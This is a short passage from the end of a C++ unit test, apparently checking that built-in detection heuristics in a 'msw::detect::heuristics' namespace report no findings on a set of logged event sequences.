    ASSERT_EQ(events.size(), log.events.size()) << log.name;
    const auto found = test::builtin_findings(events, log.name);
    EXPECT_TRUE(found.empty()) << log.name << " (" << log.what << "):" << describe(found);
  }
}

}  // namespace
}  // namespace msw::detect::heuristics
